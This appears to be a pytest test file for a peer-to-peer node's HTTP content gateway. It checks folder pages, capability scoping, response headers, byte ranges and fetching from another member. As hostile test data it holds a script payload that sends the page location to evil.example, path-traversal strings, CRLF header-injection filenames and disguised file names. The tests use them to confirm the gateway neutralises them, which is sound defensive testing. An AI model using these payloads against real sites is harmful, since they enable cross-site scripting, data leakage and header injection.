"""The gateway over real content: folders, what a capability covers, hostile names and bytes, and
what is at members only."""

import re
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import quote, unquote, urlsplit

import pytest
import trio
from hypothesis import given, settings
from hypothesis import strategies as st
from starlette.requests import Request

from pairio_node.api.content import make_gateway
from pairio_node.api.folders import folder_response
from pairio_node.api.links import Links
from pairio_node.blocks.unixfs import Entry, directory_block
from pairio_node.serving import Found, Item
from pairio_node.transport import MemoryNetwork
from pairio_protocol.cid import DAG_PB, RAW, cid_of
from tests.node.node_lab import LabNode, running, until
from tests.node.test_api import GATEWAY_PORT, PORT, Answer, call

SCRIPT = b"<script>top.location='http://evil.example/'+location</script>"
ALLOWED_TAGS = {"html", "head", "meta", "title", "style", "body", "h1", "p", "code", "a"}
ALLOWED_TAGS |= {"table", "tr", "td"}
ODD_NAMES = ("a\nb.txt", "'\"<img src=x>&.txt", "é ü.txt", "100%41.txt", "#?.txt", "‮gpj.exe")


class Gateway:
    """A node's gateway, called as a browser on this machine would."""

    def __init__(self, node: LabNode) -> None:
        self.links = Links(PORT, GATEWAY_PORT, b"key")
        self._app = make_gateway(node, self.links, GATEWAY_PORT)

    async def get(self, url: str, method: str = "GET", **headers: str) -> Answer:
        parts = urlsplit(url)
        given = {"host": f"127.0.0.1:{GATEWAY_PORT}"}
        given |= {name.replace("_", "-"): value for name, value in headers.items()}
        return await call(self._app, method, f"{parts.path}?{parts.query}", given)

    async def named(self, cid: str, name: str, below: str = "", **headers: str) -> Answer:
        return await self.get(self.url(cid, name, below), **headers)

    def url(self, cid: str, name: str, below: str = "") -> str:
        url, _, key = self.links.content(cid, name).partition("?")
        return f"{url}{below}?{key}"


@asynccontextmanager
async def gateway(path: Path) -> AsyncIterator[tuple[Gateway, LabNode]]:
    async with running(MemoryNetwork(), path / "node", compute=False) as node:
        yield Gateway(node), node


def _folder(path: Path) -> Path:
    """A folder with a file in a subfolder, a page, and names that are meant to break something."""
    (path / "sub" / "deeper").mkdir(parents=True)
    (path / "sub" / "deeper" / "x.txt").write_bytes(b"deep")
    (path / "index.html").write_bytes(SCRIPT)
    for name in ODD_NAMES:
        (path / name).write_bytes(name.encode())
    return path


class _Page(HTMLParser):
    """The links of a page, and every tag in it."""

    def __init__(self, body: bytes) -> None:
        super().__init__()
        self.links: list[str] = []
        self.tags: set[str] = set()
        self.feed(body.decode())

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.links += [value or "" for name, value in attrs if name == "href"]


async def test_a_folder_is_a_page_whose_links_work(tmp_path: Path) -> None:
    async with gateway(tmp_path) as (web, node):
        added = await node.content.add_directory(_folder(tmp_path / "f"))
        got = await web.named(added.cid, "my folder")
        assert (got.status, got.header("content-type")) == (200, "text/html; charset=utf-8")
        page = _Page(got.body)
        assert page.tags <= ALLOWED_TAGS
        names = sorted((*ODD_NAMES, "index.html", "sub"))
        assert len(page.links) == len(names)
        for name, link in zip(names, page.links, strict=True):
            below = await web.get(link)
            assert below.status == 200, name
            if name in ODD_NAMES:
                assert below.body == name.encode()
            if name == "sub":
                (up, deeper) = _Page(below.body).links
                assert (await web.get(up)).body == got.body
                (up, x) = _Page((await web.get(deeper)).body).links
                assert (await web.get(x)).body == b"deep"
        assert (await web.named(added.cid, "my folder", "/")).body == got.body


async def test_a_folder_as_json(tmp_path: Path) -> None:
    async with gateway(tmp_path) as (web, node):
        (tmp_path / "f" / "b").mkdir(parents=True)
        big = bytes(2 * 1024 * 1024 + 5)
        (tmp_path / "f" / "big.bin").write_bytes(big)
        added = await node.content.add_directory(tmp_path / "f")
        url = f"{web.url(added.cid, 'f')}&format=json"
        got = (await web.get(url)).json
        assert (got["name"], got["cid"], got["type"]) == ("f", added.cid, "folder")
        assert [(e["name"], e["type"]) for e in got["entries"]] == [
            ("b", "folder"),
            ("big.bin", "file"),
        ]
        entry = got["entries"][1]
        assert entry["size"] == len(big), "of the file, not of its blocks"
        part = await web.get(entry["url"], range="bytes=2097150-2097160")
        assert (part.status, part.body) == (206, bytes(7))
        assert part.header("etag") == f'"{entry["cid"]}"'


async def test_a_capability_covers_what_is_below_its_folder_and_nothing_else(
    tmp_path: Path,
) -> None:
    async with gateway(tmp_path) as (web, node):
        (tmp_path / "top" / "mine").mkdir(parents=True)
        (tmp_path / "top" / "secret.txt").write_bytes(b"secret")
        (tmp_path / "top" / "mine" / "a.txt").write_bytes(b"a")
        mine = await node.content.add_directory(tmp_path / "top" / "mine")
        top = await node.content.add_directory(tmp_path / "top")
        secret = await node.content.add_bytes(b"secret")
        assert (await web.named(mine.cid, "mine", "/a.txt")).body == b"a"
        key = urlsplit(web.url(mine.cid, "mine")).query
        for path in (
            f"/ipfs/{top.cid}/top",
            f"/ipfs/{top.cid}/mine",
            f"/ipfs/{top.cid}/mine/secret.txt",
            f"/ipfs/{secret.cid}/mine",
            f"/ipfs/{secret.cid}/secret.txt",
            f"/ipfs/{mine.cid}/top/a.txt",
        ):
            assert (await web.get(f"{path}?{key}")).status == 403, path
        for path in (
            "/../secret.txt",
            "/%2e%2e/secret.txt",
            "/..%2fsecret.txt",
            "//a.txt",
            "/a.txt/x",
        ):
            got = await web.named(mine.cid, "mine", path)
            assert (got.status, b"secret\n" in got.body) == (404, False), path
        assert (await web.get(f"/ipfs/{mine.cid}/mine/a.txt")).status == 403
        long = await web.named(mine.cid, "mine", "/a" * 5000)
        assert long.status == 404


async def test_names_that_no_path_can_have_are_shown_without_a_link(tmp_path: Path) -> None:
    async with gateway(tmp_path) as (web, node):
        data = cid_of(RAW, b"data")
        await node.blocks.put(data, b"data")
        names = ("..", ".", "", "a/b", "ok")
        block = directory_block([Entry(data, 4, 4, name) for name in names])
        cid = cid_of(DAG_PB, block)
        await node.blocks.put(cid, block)
        page = _Page((await web.named(cid, "f")).body)
        assert [urlsplit(link).path.rpartition("/")[2] for link in page.links] == ["a%2Fb", "ok"]
        assert [(await web.get(link)).body for link in page.links] == [b"data", b"data"]


@pytest.mark.parametrize(
    ("name", "kind", "how"),
    [
        ("a.html", "text/html; charset=utf-8", "inline"),
        ("a.SVG", "image/svg+xml", "inline"),
        ("a.js", "text/plain; charset=utf-8", "inline"),
        ("a.css", "text/plain; charset=utf-8", "inline"),
        ("a.xml", "text/plain; charset=utf-8", "inline"),
        ("a.png", "image/png", "inline"),
        ("a.csv", "text/plain; charset=utf-8", "inline"),
        ("a.json", "application/json", "inline"),
        ("a.swf", "application/octet-stream", "attachment"),
        ("a.xhtml", "application/octet-stream", "attachment"),
        ("a.nwb", "application/octet-stream", "attachment"),
        ("html", "application/octet-stream", "attachment"),
    ],
)
async def test_content_is_harmless_whatever_it_is(
    name: str, kind: str, how: str, tmp_path: Path
) -> None:
    async with gateway(tmp_path) as (web, node):
        added = await node.content.add_bytes(SCRIPT)
        got = await web.named(added.cid, name)
        assert (got.body, got.header("content-type")) == (SCRIPT, kind)
        assert got.header("content-disposition").startswith(f"{how};")
        policy = [part.strip() for part in got.header("content-security-policy").split(";")]
        assert "sandbox" in policy, "without allow-scripts or allow-same-origin"
        assert "default-src 'none'" in policy
        assert not [part for part in policy if part.startswith("script-src")]
        for header, value in {
            "x-content-type-options": "nosniff",
            "referrer-policy": "no-referrer",
            "cross-origin-resource-policy": "same-origin",
            "set-cookie": "",
            "access-control-allow-origin": "",
        }.items():
            assert got.header(header) == value


async def test_every_refusal_is_harmless_too(tmp_path: Path) -> None:
    async with gateway(tmp_path) as (web, _):
        refused = await web.get(f"/ipfs/{quote(SCRIPT)}/x?k=1")
        unknown = await web.named(SCRIPT.decode(), "x.html")
        for got in (refused, unknown):
            assert got.status in (400, 403, 404)
            assert got.header("content-type") == "text/plain; charset=utf-8"
            assert "sandbox" in got.header("content-security-policy")
            assert got.header("x-content-type-options") == "nosniff"


async def test_no_name_breaks_a_header(tmp_path: Path) -> None:
    async with gateway(tmp_path) as (web, node):
        added = await node.content.add_bytes(b"x")
        for name in (*ODD_NAMES, "a\r\nSet-Cookie: x=1", 'a"; filename=evil.exe', "x" * 255):
            got = await web.named(added.cid, name)
            said = got.header("content-disposition")
            assert re.fullmatch(
                r"(inline|attachment); filename=\"[\w ._-]*\"; filename\*=UTF-8''[\w%.~-]+",
                said,
                re.ASCII,
            ), said
            assert said.endswith(f"UTF-8''{quote(name, safe='')}")


async def test_conditions_and_ranges(tmp_path: Path) -> None:
    async with gateway(tmp_path) as (web, node):
        added = await node.content.add_bytes(b"0123456789")
        tag = f'"{added.cid}"'
        first = await web.named(added.cid, "a.bin")
        assert first.header("etag") == tag
        assert first.header("cache-control") == "private, max-age=31536000, immutable"
        for given, status in (
            (tag, 304),
            (f"W/{tag}", 304),
            (f'"x", {tag}', 304),
            ("*", 304),
            ('"x"', 200),
            (added.cid, 200),
        ):
            assert (await web.named(added.cid, "a.bin", if_none_match=given)).status == status
        several = await web.named(added.cid, "a.txt", range="bytes=0-1,-2")
        boundary = several.header("content-type").removeprefix("multipart/byteranges; boundary=")
        kind = "text/plain; charset=utf-8"
        assert (several.status, several.body.decode()) == (
            206,
            f"\r\n--{boundary}\r\nContent-Type: {kind}\r\nContent-Range: bytes 0-1/10\r\n\r\n01"
            f"\r\n--{boundary}\r\nContent-Type: {kind}\r\nContent-Range: bytes 8-9/10\r\n\r\n89"
            f"\r\n--{boundary}--\r\n",
        )
        assert several.header("content-length") == str(len(several.body))
        weak = await web.named(added.cid, "a.txt", range="bytes=0-1", if_range=f"W/{tag}")
        assert (weak.status, weak.body) == (200, b"0123456789")
        url = web.url(added.cid, "a.txt")
        head = await web.get(url, "HEAD", range="bytes=0-1,-2")
        assert (head.status, head.body) == (206, b"")
        assert head.header("content-length") == several.header("content-length")
        folder = await node.content.add_directory(_folder(tmp_path / "f"))
        page = await web.named(folder.cid, "f")
        again = await web.named(folder.cid, "f", if_none_match=page.header("etag"))
        assert (again.status, again.body) == (304, b"")
        as_json = await web.get(
            f"{web.url(folder.cid, 'f')}&format=json", if_none_match=page.header("etag")
        )
        assert as_json.status == 200, "the page's tag is not that of the JSON"


@asynccontextmanager
async def two(path: Path) -> AsyncIterator[tuple[LabNode, LabNode, str]]:
    """A holder, another member, and their service."""
    network = MemoryNetwork()
    async with (
        running(network, path / "holder", compute=False) as holder,
        running(network, path / "reader", holder, compute=False) as reader,
    ):
        service = (await holder.services.create("lab"))["serviceId"]
        await holder.admins.grant("lab", reader.peer_id, ["submit"], "reader")
        await until(lambda: reader.services.all(), "the reader is in")
        await until(lambda: holder.peer_id in reader.transport.connected(), "connected")
        yield holder, reader, service


async def test_of_content_at_a_member_only_the_range_asked_for_is_fetched(tmp_path: Path) -> None:
    async with two(tmp_path) as (holder, reader, service):
        chunks = [bytes([n]) * 2**20 for n in range(12)]
        (tmp_path / "f").mkdir()
        (tmp_path / "f" / "big.bin").write_bytes(b"".join(chunks))
        (tmp_path / "f" / "other.bin").write_bytes(b"other")
        added = await holder.content.add_directory(tmp_path / "f")
        assert await holder.contents.share(service, added.cid)
        web = Gateway(reader)
        with trio.fail_after(60):
            got = await web.named(
                added.cid, "f", "/big.bin", range=f"bytes={3 * 2**20 - 1}-{3 * 2**20}"
            )
        assert (got.status, got.body) == (206, b"\x02\x03")
        assert reader.exchange.counters["blocks_received"] == 4, "folder, file, two parts"
        assert reader.blocks.used_bytes < 3 * 2**20
        with trio.fail_after(60):
            whole = await web.named(added.cid, "f", "/big.bin")
        assert whole.body == b"".join(chunks)


async def test_what_nobody_has_is_said_and_the_reader_is_not_kept(tmp_path: Path) -> None:
    async with two(tmp_path) as (_, reader, _service):
        web = Gateway(reader)
        with trio.fail_after(20):
            got = await web.named(cid_of(RAW, b"nowhere"), "a.txt")
        assert (got.status, b"is not here" in got.body) == (404, True)


async def test_a_part_that_lies_about_its_size_is_not_read(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    """A node says how long its parts are; a longer one would shift all that follows."""
    async with gateway(tmp_path) as (web, node):
        from pairio_protocol.protobuf import field, number
        from pairio_protocol.unixfs import _links

        parts = [b"aaaa", b"bbbb"]
        entries = [Entry(cid_of(RAW, p), 3, 3) for p in parts]  # each is 4
        unixfs = number(1, 2) + number(3, 6) + number(4, 3) + number(4, 3)
        block = _links(entries) + field(1, unixfs)
        cid = cid_of(DAG_PB, block)
        await node.blocks.put(cid, block)
        for part in parts:
            await node.blocks.put(cid_of(RAW, part), part)
        got = await web.named(cid, "a.bin")
        assert (got.body, got.header("content-length")) == (b"", "6"), "the connection is cut"
        assert "not the part of a file" in caplog.text


@settings(max_examples=40, deadline=None)
@given(st.lists(st.text(max_size=12), max_size=6, unique=True))
def test_no_names_in_a_folder_put_anything_into_its_page(names: list[str]) -> None:
    data = cid_of(RAW, b"data")
    names = [name for name in names if _is_text(name)]
    items = [Item(name, data, 4, False) for name in names]
    request = Request(
        {"type": "http", "method": "GET", "headers": [], "query_string": b"k=1", "path": "/"}
    )
    path = ["top", *names[:2]]
    base = Links(PORT, GATEWAY_PORT, b"key").below(data, "top", names[:2])
    answer = folder_response(request, Found(data, 0, True), items, path, base, "1")
    page = _Page(bytes(answer.body))
    assert page.tags <= ALLOWED_TAGS
    shown = [name for name in names if name not in ("", ".", "..")]
    links = [link for link in page.links if link.startswith(f"{base}/")]
    assert [unquote(urlsplit(link).path[len(base) + 1 :]) for link in links] == shown
    assert all(link.endswith("?k=1") and link.startswith("/ipfs/") for link in page.links)


def _is_text(name: str) -> bool:
    try:
        name.encode()
    except UnicodeEncodeError:
        return False
    return True
